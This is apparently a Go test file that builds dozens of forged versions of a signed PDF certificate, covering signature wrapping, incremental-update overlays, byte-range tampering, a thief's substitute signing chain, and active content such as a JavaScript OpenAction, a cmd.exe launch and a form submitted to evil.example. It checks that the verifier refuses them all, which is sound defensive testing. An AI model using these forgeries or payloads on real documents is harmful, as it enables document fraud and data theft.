package check_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/passmuster/passmuster/internal/pdf/check"
	"github.com/passmuster/passmuster/internal/testkit"
)

// victim is an issued certificate, taken apart by somebody who has no key.
type victim struct {
	t       testing.TB
	b       []byte
	at      map[int]int // places of objects
	table   int         // place of the table
	count   int         // objects and none
	open    int         // of the signature's string
	behind  int
	ranges  string // as written
	ours    *pki
	another []byte // another certificate of the same registry
}

func newVictim(t testing.TB) *victim {
	t.Helper()
	p := newPKI(t, ecKey(t))
	v := &victim{t: t, b: issued(t, p, false, "zh", "en"), at: map[int]int{}, ours: p, another: issued(t, p, false, "en")}
	start := bytes.LastIndex(v.b, []byte("startxref\n")) + len("startxref\n")
	end := start + bytes.IndexByte(v.b[start:], '\n')
	v.table = v.number(string(v.b[start:end]))
	size := regexp.MustCompile(`/Size (\d+)`).FindSubmatch(v.b[v.table:])
	v.count = v.number(string(size[1]))
	lines := v.b[v.table+bytes.Index(v.b[v.table:], []byte("stream\n"))+len("stream\n"):]
	for n := 1; n < v.count; n++ {
		v.at[n] = int(binary.BigEndian.Uint32(lines[5*n+1:]))
	}
	v.open, v.behind = hole(v.b)
	from := bytes.Index(v.b, []byte("/ByteRange")) + len("/ByteRange")
	v.ranges = string(v.b[from : from+bytes.IndexByte(v.b[from:], ']')+1])
	return v
}

func (v *victim) number(s string) int {
	v.t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		v.t.Fatal(err)
	}
	return n
}

// object is the text of an object that is no stream.
func (v *victim) object(n int) string {
	v.t.Helper()
	rest := v.b[v.at[n]:]
	head := fmt.Sprintf("%d 0 obj\n", n)
	end := bytes.Index(rest, []byte("\nendobj"))
	if !bytes.HasPrefix(rest, []byte(head)) || end < 0 {
		v.t.Fatalf("object %d is not at %d", n, v.at[n])
	}
	return string(rest[len(head):end])
}

// find is the number of the first object with all of the texts in it.
func (v *victim) find(texts ...string) int {
	v.t.Helper()
	for n := 1; n < v.count; n++ {
		rest := v.b[v.at[n]:]
		end := bytes.Index(rest, []byte("\nendobj"))
		if end >= 0 && !slices.ContainsFunc(texts, func(s string) bool { return !bytes.Contains(rest[:end], []byte(s)) }) {
			return n
		}
	}
	v.t.Fatalf("no object with %q", texts)
	return 0
}

// edited is an object with a piece replaced.
func (v *victim) edited(n int, old, new string) string {
	v.t.Helper()
	o := v.object(n)
	if !strings.Contains(o, old) {
		v.t.Fatalf("object %d does not hold %q", n, old)
	}
	return strings.Replace(o, old, new, 1)
}

// put replaces a piece of the file by one of the same length.
func (v *victim) put(old, new string) []byte {
	v.t.Helper()
	if len(old) != len(new) || !bytes.Contains(v.b, []byte(old)) {
		v.t.Fatalf("%q is not there, or not as long as %q", old, new)
	}
	return bytes.Replace(v.b, []byte(old), []byte(new), 1)
}

// Kinds of table that an update can end with.
const (
	classic  = iota // cross-reference table and trailer
	streamed        // cross-reference stream
	hybrid          // a table that names a stream
	tailless        // neither: readers that repair find the objects
	rootless        // a table, and a trailer without a root
)

// update appends objects, with the table of the kind. It is what any PDF library
// writes that saves a change.
func (v *victim) update(kind int, objects map[int]string) []byte {
	return v.updateOf(v.b, kind, objects)
}

func (v *victim) updateOf(b []byte, kind int, objects map[int]string) []byte {
	o, at := bytes.Clone(b), map[int]int{}
	size := v.count
	for _, n := range sortedKeys(objects) {
		at[n], size = len(o), max(size, n+1)
		o = fmt.Appendf(o, "%d 0 obj\n%s\nendobj\n", n, objects[n])
	}
	table := func(extra string) {
		start := len(o)
		o = append(o, "xref\n"...)
		for _, n := range sortedKeys(objects) {
			o = fmt.Appendf(o, "%d 1\n%010d 00000 n\r\n", n, at[n])
		}
		root := fmt.Sprintf("/Root 1 0 R/Prev %d", v.table)
		if kind == rootless {
			root = ""
		}
		o = fmt.Appendf(o, "trailer\n<</Size %d%s%s>>\nstartxref\n%d\n%%%%EOF\n", size, root, extra, start)
	}
	crossStream := func() int {
		start, index, lines := len(o), "", ""
		for _, n := range sortedKeys(objects) {
			index += fmt.Sprintf("%d 1 ", n)
			lines += string(binary.BigEndian.AppendUint32([]byte{1}, uint32(at[n]))) + "\x00"
		}
		index, lines = index+fmt.Sprintf("%d 1", size), lines+string(binary.BigEndian.AppendUint32([]byte{1}, uint32(start)))+"\x00"
		o = fmt.Appendf(o, "%d 0 obj\n%s\nendobj\n", size, stream(fmt.Sprintf("/Type/XRef/W[1 4 1]/Index[%s]/Size %d/Root 1 0 R/Prev %d", index, size+1, v.table), lines))
		return start
	}
	switch kind {
	case classic, rootless:
		table("")
	case streamed:
		o = fmt.Appendf(o, "startxref\n%d\n%%%%EOF\n", crossStream())
	case hybrid:
		table(fmt.Sprintf("/XRefStm %d", crossStream()))
	case tailless:
	}
	return o
}

func sortedKeys(m map[int]string) (all []int) {
	for n := range m {
		all = append(all, n)
	}
	slices.Sort(all)
	return all
}

// attack is one file of a class.
type attack struct {
	class string
	name  string
	file  []byte
	want  check.Fault
}

// classes are those of docs/certificate.md, "What is refused", in its order.
func (v *victim) classes() (all []attack) {
	for _, c := range []struct {
		class string
		make  func() map[string]faulty
	}{
		{"incremental update", v.updates}, {"shadow content", v.shadows}, {"signature wrapping", v.wrapped}, {"universal signature forgery", v.universal},
		{"spoofed field", v.spoofed}, {"pages added or removed", v.pages}, {"appended bytes", v.appended}, {"second signature", v.second},
		{"permission widened", v.permissions}, {"attachment replaced", v.attachments}, {"active content", v.active}, {"objects overridden", v.overridden},
		{"other signer", v.others}, {"bytes changed", v.changed},
	} {
		made := c.make()
		names := []string{}
		for n := range made {
			names = append(names, n)
		}
		slices.Sort(names)
		for _, n := range names {
			all = append(all, attack{c.class, n, made[n].file, made[n].want})
		}
	}
	return all
}

// faulty is a file and what it is refused for.
type faulty struct {
	file []byte
	want check.Fault
}

func added(file []byte) faulty   { return faulty{file, check.Appended} }
func altered(file []byte) faulty { return faulty{file, check.Altered} }

// lost is a file in which no signature of ours is left to judge it by.
func lost(file []byte) faulty { return faulty{file, check.Structure} }

const forged = "BT /F1 40 Tf 60 300 Td (FORGED) Tj ET"

// overlay are the page with a new content, and that content.
func (v *victim) overlay() map[int]string {
	page := v.find("/Type/Page/")
	return map[int]string{
		page:        regexp.MustCompile(`/Contents\[[^\]]*\]/Resources \d+ 0 R`).ReplaceAllString(v.object(page), fmt.Sprintf("/Contents %d 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>", v.count+1)),
		v.count + 1: stream("", forged),
	}
}

func (v *victim) updates() map[string]faulty {
	objects := v.overlay()
	return map[string]faulty{
		"with a table and a trailer":        added(v.update(classic, objects)),
		"with a cross-reference stream":     added(v.update(streamed, objects)),
		"with both (hybrid)":                added(v.update(hybrid, objects)),
		"without a table":                   added(v.update(tailless, objects)),
		"with a trailer without a root":     added(v.update(rootless, objects)),
		"of nothing":                        added(v.update(classic, nil)),
		"that adds a validation store":      added(v.update(classic, map[int]string{1: strings.TrimSuffix(v.object(1), ">>") + "/DSS<</Certs[]>>>>"})),
		"with an end, the old table alone":  added(append(v.update(tailless, objects), fmt.Sprintf("startxref\n%d\n%%%%EOF\n", v.table)...)),
		"twice":                             added(v.updateOf(v.update(classic, objects), classic, objects)),
		"of the document information alone": added(v.update(classic, map[int]string{v.find("/Title<FEFF"): "<</Title(FORGED)>>"})),
	}
}

func (v *victim) shadows() map[string]faulty {
	page, annotation := v.find("/Type/Page/"), v.count+1
	picture := stream("/Type/XObject/Subtype/Form/BBox[0 0 842 595]", "1 g 0 0 842 595 re f "+forged)
	stamp := fmt.Sprintf("<</Type/Annot/Subtype/Stamp/Rect[0 0 842 595]/F 4/AP<</N %d 0 R>>>>", annotation+1)
	withAnnotation := v.edited(page, "/Annots[4 0 R]", fmt.Sprintf("/Annots[4 0 R %d 0 R]", annotation))
	font := v.find("/Type/Font", "/Subtype")
	return map[string]faulty{
		"hide: a stamp over the whole page":    added(v.update(classic, map[int]string{page: withAnnotation, annotation: stamp, annotation + 1: picture})),
		"hide: the content emptied":            added(v.update(classic, map[int]string{page: regexp.MustCompile(`/Contents\[[^\]]*\]`).ReplaceAllString(v.object(page), "/Contents[]")})),
		"replace: a font redefined":            added(v.update(streamed, map[int]string{font: "<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>"})),
		"replace: a field's look":              added(v.update(classic, map[int]string{4: v.edited(4, "/Rect[0 0 0 0]", fmt.Sprintf("/Rect[0 0 842 595]/AP<</N %d 0 R>>", annotation)), annotation: picture})),
		"hide and replace: another page shown": added(v.update(classic, map[int]string{2: fmt.Sprintf("<</Type/Pages/Kids[%d 0 R]/Count 1>>", annotation), annotation: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]>>"})),
		"layers that hide what was signed":     added(v.update(classic, map[int]string{1: strings.TrimSuffix(v.object(1), ">>") + "/OCProperties<</OCGs[]/D<<>>>>>>"})),
	}
}

// wrapped moves what was signed, so that the signature still fits it, and puts
// other content where readers look.
func (v *victim) wrapped() map[string]faulty {
	signed := strings.TrimRight(string(v.b[v.open+1:v.behind-1]), "0")
	if len(signed)%2 != 0 {
		signed += "0"
	}
	tail := v.b[v.behind:]
	room := v.behind - v.open - 2
	// Inside of the gap: as much of the signature as there is room for, a second byte range, new objects.
	inside := func(s string) []byte {
		gap := signed[:min(len(signed), room-len(s)-1)] + ">" + s // the gap has no room to spare
		return slices.Concat(v.b[:v.open+1], []byte(gap), []byte(strings.Repeat(" ", room-len(gap))), v.b[v.behind-1:])
	}
	// The second range moved behind new content: the bytes that it names are those that were signed.
	moved := func(b []byte, old string) []byte {
		evil := fmt.Sprintf("\n%d 0 obj\n%s\nendobj\n", v.count+1, stream("", forged))
		at := v.behind + len(evil)
		b = bytes.Replace(b, []byte(old), fmt.Appendf(nil, "[0 %010d %010d %010d]", v.open, at, len(tail)), 1)
		return slices.Concat(b[:v.behind], []byte(evil), tail)
	}
	again := fmt.Sprintf("/ByteRange[0 %010d %010d %010d]", v.open, v.behind, len(tail))
	message := string(v.b[v.open:v.behind])
	sig := v.find("/Type/Sig/")
	return map[string]faulty{
		"second range moved behind new content":             altered(moved(v.b, v.ranges)),
		"second range moved, the old one kept in a comment": lost(moved(bytes.Replace(v.b, []byte("/ByteRange"+v.ranges), []byte("/ByteRange"+v.ranges+"\n%"+v.ranges+"\n"), 1), v.ranges)),
		"a second byte range in the gap":                    lost(inside(again)),
		"new objects in the gap":                            lost(inside("/X 1>>\nendobj\n3 0 obj<</Type/Page>>endobj")),
		"the signature copied into a new object":            added(v.update(classic, map[int]string{sig: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange" + v.ranges + "/Contents" + message + ">>"})),
		"the signed file wrapped in another one":            altered(slices.Concat([]byte("%PDF-1.7\n1 0 obj\n"), []byte(stream("", string(v.b))), []byte("\nendobj\n"))),
		"a new file before, ranges counted on":              altered(slices.Concat([]byte("%PDF-1.7\n"+strings.Repeat(" ", 2000)), v.b)),
		"first range shortened":                             altered(v.put(v.ranges, fmt.Sprintf("[0 %010d %010d %010d]", 100, v.behind, len(tail)))),
		"two ranges swapped":                                altered(v.put(v.ranges, fmt.Sprintf("[0 %010d %010d %010d]", v.behind, v.open, len(tail)))),
	}
}

// universal leaves a reader nothing to check.
func (v *victim) universal() map[string]faulty {
	n := len(v.ranges)
	fill := func(s string) []byte { return v.put(v.ranges, s+strings.Repeat(" ", n-len(s))) }
	digits := func(s string) []byte { return slices.Concat(v.b[:v.open+1], []byte(s), v.b[v.behind-1:]) }
	blank := func(s string) []byte { return digits(s + strings.Repeat("0", v.behind-v.open-2-len(s))) }
	raw := func(s string) []byte { return slices.Concat(v.b[:v.open], []byte(s), v.b[v.behind:]) }
	tail := len(v.b) - v.behind
	to := func(a, b, c int) []byte { return v.put(v.ranges, fmt.Sprintf("[0 %010d %010d %010d]", a, b, c)) }
	return map[string]faulty{
		"byte range null":             altered(fill("null")),
		"byte range empty":            altered(fill("[]")),
		"byte range of zeros":         altered(to(0, 0, 0)),
		"byte range negative":         altered(fill(fmt.Sprintf("[0 -%09d %010d %010d]", v.open, v.behind, tail))),
		"byte range of one pair":      altered(fill(fmt.Sprintf("[0 %010d]", len(v.b)))),
		"byte range of three pairs":   altered(fill(fmt.Sprintf("[0 %d %d %d %d 0]", v.open, v.behind, tail, len(v.b)))),
		"byte range overlapping":      altered(to(v.open, v.open-500, tail)),
		"byte range without a gap":    altered(to(v.open, v.open, len(v.b)-v.open)),
		"byte range huge":             altered(to(9999999999, 9999999999, 9999999999)),
		"byte range beyond 64 bits":   altered(fill("[0 99999999999999999999 1 1]")),
		"byte range of fractions":     altered(fill(fmt.Sprintf("[0 %d.5 %d %d]", v.open, v.behind, tail))),
		"byte range by reference":     altered(fill("9 0 R")),
		"byte range removed":          altered(bytes.Replace(v.b, []byte("/ByteRange"+v.ranges), nil, 1)),
		"byte range twice":            altered(bytes.Replace(v.b, []byte("/ByteRange"), []byte("/ByteRange[0 1 2 3]/ByteRange"), 1)),
		"byte range escaped":          altered(bytes.Replace(v.b, []byte("/ByteRange"), []byte("/B#79teRange"), 1)),
		"signature 0x00":              lost(blank("00")),
		"signature of zeros":          lost(blank("")),
		"signature null":              lost(raw("null")),
		"signature empty":             lost(digits("")),
		"signature in parentheses":    lost(raw("(" + strings.Repeat("0", v.behind-v.open-2) + ")")),
		"signature by reference":      lost(raw("9 0 R")),
		"signature of another format": lost(blank("3082000A06092A864886F70D010702")),
		"signature of an odd length":  {file: digits(string(v.b[v.open+1 : v.behind-2]))}, // the last digit is the message's, or padding
		"signature not hexadecimal":   lost(blank("GG")),
		"signature key removed":       altered(bytes.Replace(v.b, []byte("/Contents<"), []byte("/Contenty<"), 1)),
		"type removed":                altered(bytes.Replace(v.b, []byte("/Type/Sig/Filter"), []byte("/Type/Xig/Filter"), 1)),
		"filter unknown":              altered(v.put("Adobe.PPKLite", "Adobe.PPKNone")),
		"format unknown":              altered(v.put("ETSI.CAdES.detached", "adbe.x509.rsa_sha1_")),
		"brackets widened":            altered(slices.Concat(v.b[:v.open], []byte(" "), v.b[v.open:v.behind], v.b[v.behind:])),
	}
}

func (v *victim) spoofed() map[string]faulty {
	n := v.count + 1
	look := stream("/Type/XObject/Subtype/Form/BBox[0 0 200 60]", "BT /F1 12 Tf (Signed by the registry, valid) Tj ET")
	field := fmt.Sprintf("<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature2)/F 4/P 3 0 R/Rect[500 60 700 120]/AP<</N %d 0 R>>>>", n+1)
	page := v.edited(v.find("/Type/Page/"), "/Annots[4 0 R]", fmt.Sprintf("/Annots[4 0 R %d 0 R]", n))
	drawn := "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>>>\nendobj\n" +
		"4 0 obj\n<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature1)/Rect[0 0 200 60]>>\nendobj\n5 0 obj\n" + look + "\nendobj\n%%EOF\n"
	return map[string]faulty{
		"an unsigned field beside ours, drawn as valid": added(v.update(classic, map[int]string{v.find("/Type/Page/"): page, n: field, n + 1: look})),
		"our field made visible":                        added(v.update(classic, map[int]string{4: v.edited(4, "/Rect[0 0 0 0]", "/Rect[500 60 700 120]")})),
		"our field pointing to another signature":       added(v.update(classic, map[int]string{4: regexp.MustCompile(`/V \d+ 0 R`).ReplaceAllString(v.object(4), fmt.Sprintf("/V %d 0 R", n)), n: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/Contents<00>>>"})),
		"a file with a drawn signature and none":        {[]byte(drawn), check.Unsigned},
		"a text field":                                  added(v.update(classic, map[int]string{n: "<</Type/Annot/Subtype/Widget/FT/Tx/T(Name)/V(FORGED)/Rect[0 0 842 595]>>"})),
	}
}

func (v *victim) pages() map[string]faulty {
	n := v.count + 1
	page := fmt.Sprintf("<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]/Contents %d 0 R>>", n+1)
	kids := func(s string, count int) map[int]string {
		return map[int]string{2: fmt.Sprintf("<</Type/Pages/Kids[%s]/Count %d>>", s, count), n: page, n + 1: stream("", forged)}
	}
	return map[string]faulty{
		"a page behind":              added(v.update(classic, kids(fmt.Sprintf("3 0 R %d 0 R", n), 2))),
		"a page in front":            added(v.update(streamed, kids(fmt.Sprintf("%d 0 R 3 0 R", n), 2))),
		"the page replaced":          added(v.update(classic, kids(fmt.Sprintf("%d 0 R", n), 1))),
		"the page removed":           added(v.update(classic, kids("", 0))),
		"the page turned":            added(v.update(classic, map[int]string{3: v.edited(3, "/Type/Page/", "/Type/Page/Rotate 180/")})),
		"the page cut":               altered(v.put("/MediaBox[0 0 841.89 595.28]", "/MediaBox[0 0 421.89 595.28]")),
		"the tree of pages in place": altered(v.put("/Kids[3 0 R]/Count 1", "/Kids[4 0 R]/Count 1")),
	}
}

func (v *victim) appended() map[string]faulty {
	behind := func(s string) faulty { return added(append(bytes.Clone(v.b), s...)) }
	return map[string]faulty{
		"a line feed": behind("\n"), "a zero byte": behind("\x00"), "a space": behind(" "), "a comment": behind("% hello\n"),
		"a megabyte of zeros": behind(strings.Repeat("\x00", 1<<20)), "a web page": behind("<html><body>FORGED</body></html>"),
		"an archive": behind("PK\x05\x06" + strings.Repeat("\x00", 18)), "the same file": behind(string(v.b)), "another file of ours": behind(string(v.another)),
		"another end": behind("startxref\n0\n%%EOF\n"), "a byte order mark before": altered(append([]byte("\xEF\xBB\xBF"), v.b...)),
		"an archive before": altered(append([]byte("PK\x03\x04"+strings.Repeat("\x00", 500)), v.b...)),
	}
}

func (v *victim) second() map[string]faulty {
	n, thief := v.count+1, newPKI(v.t, ecKey(v.t))
	// A second signature over everything, by a thief's own chain of the same names.
	later := v.update(classic, map[int]string{
		1: regexp.MustCompile(`/Fields\[[^\]]*\]`).ReplaceAllString(v.object(1), fmt.Sprintf("/Fields[4 0 R %d 0 R]", n)), n: "<</Type/Annot/Subtype/Widget/FT/Sig/T(S2)/Rect[0 0 0 0]/V " + strconv.Itoa(n+1) + " 0 R>>",
		n + 1: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 0000000001 0000000002 0000000003]/Contents<" + strings.Repeat("0", 6000) + ">>>"})
	open := bytes.LastIndex(later, []byte("/Contents<")) + len("/Contents")
	behind := open + bytes.IndexByte(later[open:], '>') + 1
	later = bytes.Replace(later, []byte("[0 0000000001 0000000002 0000000003]"), fmt.Appendf(nil, "[0 %010d %010d %010d]", open, behind, len(later)-behind), 1)
	message := thief.letter().write(v.t, digestAround(later, open, behind))
	copy(later[open+1:], fmt.Sprintf("%X", message))
	stamp := v.update(classic, map[int]string{n: "<</Type/DocTimeStamp/Filter/Adobe.PPKLite/SubFilter/ETSI.RFC3161/ByteRange[0 1 2 3]/Contents<3000>>>"})
	theirs := v.another[bytes.Index(v.another, []byte("/Contents<"))+len("/Contents"):]
	theirs = theirs[:bytes.IndexByte(theirs, '>')+1]
	fitted := slices.Concat([]byte("<"), bytes.TrimRight(theirs[1:len(theirs)-1], "0"))
	fitted = append(fitted, strings.Repeat("0", v.behind-v.open-1-len(fitted))+">"...)
	return map[string]faulty{
		"by a stranger, over everything":               added(later),
		"a document time stamp":                        added(stamp),
		"the signature of another certificate of ours": altered(slices.Concat(v.b[:v.open], fitted, v.b[v.behind:])),
		"our signature removed by an update":           added(v.update(classic, map[int]string{4: regexp.MustCompile(`/V \d+ 0 R`).ReplaceAllString(v.object(4), "")})),
	}
}

func (v *victim) permissions() map[string]faulty {
	sig := v.find("/Type/Sig/")
	with := func(n int, old, new string) faulty {
		return added(v.update(classic, map[int]string{n: v.edited(n, old, new)}))
	}
	return map[string]faulty{
		"P 2 in place":          altered(v.put("/P 1/V/1.2", "/P 2/V/1.2")),
		"P 3 in place":          altered(v.put("/P 1/V/1.2", "/P 3/V/1.2")),
		"P 3 by an update":      with(sig, "/P 1/", "/P 3/"),
		"no certification":      with(1, "/Perms", "/Xerms"),
		"no reference in place": altered(v.put("/Reference[", "/Xeference[")),
		"fields left open":      with(sig, "/TransformMethod/DocMDP", "/TransformMethod/FieldMDP"),
		"usage rights":          with(1, "/Perms<<", "/Perms<</UR3 "+strconv.Itoa(sig)+" 0 R"),
	}
}

func (v *victim) attachments() map[string]faulty {
	spec, body := v.find("/Type/Filespec"), v.find("/Type/EmbeddedFile")
	other := strings.Replace(token, "REVNTw", "REVNTX", 1)
	return map[string]faulty{
		"its bytes in place":       altered(v.put(token, other)),
		"its bytes by an update":   added(v.update(classic, map[int]string{body: stream("/Type/EmbeddedFile", other)})),
		"its place by an update":   added(v.update(streamed, map[int]string{spec: regexp.MustCompile(`\d+ 0 R`).ReplaceAllString(v.object(spec), fmt.Sprintf("%d 0 R", v.count+1)), v.count + 1: stream("/Type/EmbeddedFile", other)})),
		"a second one":             added(v.update(classic, map[int]string{1: strings.Replace(v.object(1), "/Names[", fmt.Sprintf("/Names[(a.jwt)%d 0 R", v.count+1), 1), v.count + 1: "<</Type/Filespec/F(a.jwt)>>"})),
		"its name":                 altered(v.put("/F(credential.jwt)", "/F(credential.exe)")),
		"taken out of the catalog": added(v.update(classic, map[int]string{1: strings.Replace(v.object(1), "/EmbeddedFiles", "/EmbeddedFilez", 1)})),
	}
}

func (v *victim) active() map[string]faulty {
	catalog := func(s string) faulty {
		return added(v.update(classic, map[int]string{1: strings.TrimSuffix(v.object(1), ">>") + s + ">>"}))
	}
	page := func(s string) faulty {
		return added(v.update(classic, map[int]string{3: strings.TrimSuffix(v.object(3), ">>") + s + ">>"}))
	}
	return map[string]faulty{
		"JavaScript when opened":      catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
		"a program started":           catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"),
		"an address when opened":      catalog("/OpenAction<</S/URI/URI(https://evil.example)>>"),
		"a form sent away":            page("/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
		"a link over the page":        added(v.update(classic, map[int]string{3: v.edited(3, "/Annots[4 0 R]", "/Annots[4 0 R<</Type/Annot/Subtype/Link/Rect[0 0 842 595]/A<</S/URI/URI(https://evil.example)>>>>]")})),
		"an XFA form":                 added(v.update(classic, map[int]string{1: strings.Replace(v.object(1), "/SigFlags 3", "/SigFlags 3/XFA(x)", 1)})),
		"a film":                      page("/X<</Type/Annot/Subtype/RichMedia>>"),
		"a name escaped":              catalog("/Open#41ction<</S/Java#53cript/JS(1)>>"),
		"an action put in over names": altered(v.put("/ViewerPreferences<</DisplayDocTitle true>>", "/OpenAction<</S/JavaScript/JS(app.beep)  >>")),
	}
}

func (v *victim) overridden() map[string]faulty {
	content := regexp.MustCompile(`/Contents\[(\d+) 0 R`).FindStringSubmatch(v.object(3))
	inside := stream("/Type/ObjStm/N 1/First 4", "3 0 "+v.object(3))
	table := bytes.Index(v.b[v.table:], []byte("stream\n")) + v.table + len("stream\n")
	entry := func(n, to int) []byte {
		b := bytes.Clone(v.b)
		binary.BigEndian.PutUint32(b[table+5*n+1:], uint32(to))
		return b
	}
	free := bytes.Clone(v.b)
	free[table+5*v.number(content[1])] = 0
	start := fmt.Sprintf("startxref\n%d\n", v.table)
	return map[string]faulty{
		"by an object stream":               added(v.update(streamed, map[int]string{v.count + 1: inside})),
		"a place in the table":              altered(entry(v.number(content[1]), v.at[v.find("/Type/EmbeddedFile")])),
		"the page's place in the table":     altered(entry(3, v.at[2])),
		"an object freed in the table":      altered(free),
		"the table's place":                 altered(v.put(start, strings.Replace(start, strconv.Itoa(v.table), strconv.Itoa(v.at[3]), 1)+strings.Repeat("\n", len(strconv.Itoa(v.table))-len(strconv.Itoa(v.at[3]))))),
		"the root":                          altered(v.put("/Root 1 0 R", "/Root 3 0 R")),
		"an object put in before its twin":  altered(bytes.Replace(v.b, []byte("2 0 obj\n<</Type/Pages"), []byte("3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages"), 1)),
		"a second generation by an update":  added(append(bytes.Clone(v.b), "3 1 obj\n<</Type/Page>>\nendobj\n"...)),
		"encryption by an update's trailer": added(bytes.Replace(v.update(classic, nil), []byte("/Root 1 0 R/Prev"), []byte("/Encrypt<</Filter/Standard>>/Root 1 0 R/Prev"), 1)),
	}
}

func (v *victim) others() map[string]faulty {
	thief := newPKI(v.t, ecKey(v.t))
	mixed := thief.letter()
	mixed.certificates = append(mixed.certificates, v.ours.leaf, v.ours.ca)
	named := thief.letter()
	named.leaf = v.ours.leaf // says that we signed
	named.certificates = v.ours.letter().certificates
	const more = 2000 // room for more certificates than ours brings
	edited := slices.Concat(v.b[:v.open+1], []byte(strings.Repeat("0", v.behind-v.open-2+more)), v.b[v.behind-1:])
	edited = bytes.Replace(edited, []byte(v.ranges), fmt.Appendf(nil, "[0 %010d %010d %010d]", v.open, v.behind+more, len(v.b)-v.behind), 1)
	edited = bytes.Replace(edited, []byte("/Lang(zh-CN)"), []byte("/Lang(xx-XX)"), 1)
	return map[string]faulty{
		"a chain with our names":                       {issued(v.t, thief, false, "zh", "en"), check.Chain},
		"the same with its root":                       {issued(v.t, thief, true, "zh", "en"), check.Chain},
		"our file changed, signed by a stranger":       {seal(v.t, edited, thief.letter()), check.Chain},
		"with our certificates beside his":             lost(seal(v.t, edited, mixed)),
		"a stranger's signature under our certificate": altered(seal(v.t, edited, named)),
	}
}

// changed are bytes flipped, put in and left out at random places.
func (v *victim) changed() map[string]faulty {
	r, made := rand.New(rand.NewPCG(5, 6)), map[string]faulty{}
	for i := range 200 {
		at, bit := r.IntN(len(v.b)), byte(1)<<r.IntN(8)
		flipped := bytes.Clone(v.b)
		flipped[at] ^= bit
		made[fmt.Sprintf("%03d: byte %d flipped by %#x", i, at, bit)] = faulty{flipped, ""}
	}
	for i := range 50 {
		at := r.IntN(len(v.b))
		made[fmt.Sprintf("%03d: a byte put in at %d", 200+i, at)] = faulty{slices.Concat(v.b[:at], []byte{byte(r.IntN(256))}, v.b[at:]), ""}
		made[fmt.Sprintf("%03d: byte %d left out", 250+i, at)] = faulty{slices.Concat(v.b[:at], v.b[at+1:]), ""}
		made[fmt.Sprintf("%03d: cut at %d", 300+i, at)] = faulty{v.b[:at], ""}
	}
	return made
}

// TestEveryKnownManipulationIsRefused tries every class of docs/certificate.md on
// an issued certificate. No file of them is accepted, and each is called what it is.
func TestEveryKnownManipulationIsRefused(t *testing.T) {
	v := newVictim(t)
	if _, err := check.File(v.b, v.ours.public()); err != nil {
		t.Fatalf("the original: %v", err)
	}
	count := map[string]int{}
	for _, a := range v.classes() {
		count[a.class]++
		if bytes.Equal(a.file, v.b) {
			t.Errorf("%s, %s: changes nothing", a.class, a.name)
		}
		s, err := check.File(a.file, v.ours.public())
		fault := check.FaultOf(err)
		switch {
		case s != nil || err == nil:
			t.Errorf("%s, %s: accepted", a.class, a.name)
		case fault == "" || a.want != "" && fault != a.want:
			t.Errorf("%s, %s: %v, want %s", a.class, a.name, err, a.want)
		}
	}
	total := 0
	for class, n := range count {
		total += n
		t.Logf("%4d %s", n, class)
	}
	t.Logf("%4d files, none accepted", total)
	documented := map[string]bool{}
	for _, row := range testkit.Table(t, "../../../docs/certificate.md", "## What is refused") {
		documented[row["class"]] = true
		if count[row["class"]] == 0 {
			t.Errorf("docs/certificate.md promises %q, which no file tries", row["class"])
		}
	}
	for class := range count {
		if !documented[class] {
			t.Errorf("docs/certificate.md does not say that %q is refused", class)
		}
	}
}

// The attacks are real ones: an ordinary reader shows what was put in.
func TestOrdinaryReadersShowTheForgery(t *testing.T) {
	v := newVictim(t)
	for name, a := range map[string][]byte{"updated with a table": v.update(classic, v.overlay()), "updated with a stream": v.update(streamed, v.overlay())} {
		if text := testkit.RunOn(t, "pdftotext", a, "FILE", "-"); !strings.Contains(text, "FORGED") {
			t.Errorf("%s: a reader shows %q", name, text)
		}
	}
}

// The original, which every attack began with, is a good file to others.
func TestOthersAcceptTheOriginal(t *testing.T) {
	v := newVictim(t)
	dir := t.TempDir()
	write := func(name string, b []byte) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, b, 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	if said := testkit.RunOn(t, "qpdf", v.b, "--check", "FILE"); !strings.Contains(said, "No syntax or stream encoding errors") {
		t.Errorf("qpdf says %s", said)
	}
	if said := testkit.RunOn(t, "pdfsig", v.b, "-nocert", "FILE"); !strings.Contains(said, "Signature is Valid") || !strings.Contains(said, "Total document signed") {
		t.Errorf("pdfsig says %s", said)
	}
	digits := bytes.TrimRight(v.b[v.open+1:v.behind-1], "0")
	message := make([]byte, (len(digits)+1)/2)
	if _, err := fmt.Sscanf(string(digits)+strings.Repeat("0", len(digits)%2), "%X", &message); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(testkit.Tool(t, "openssl"), "cms", "-verify", "-cades", "-inform", "DER", "-binary", "-purpose", "any", "-no_check_time",
		"-in", write("signature.der", message), "-content", write("content", slices.Concat(v.b[:v.open], v.b[v.behind:])),
		"-CAfile", write("root.pem", pemOf(v.ours.root)), "-out", os.DevNull).CombinedOutput()
	if err != nil {
		t.Errorf("openssl cms: %v\n%s", err, out)
	}
}
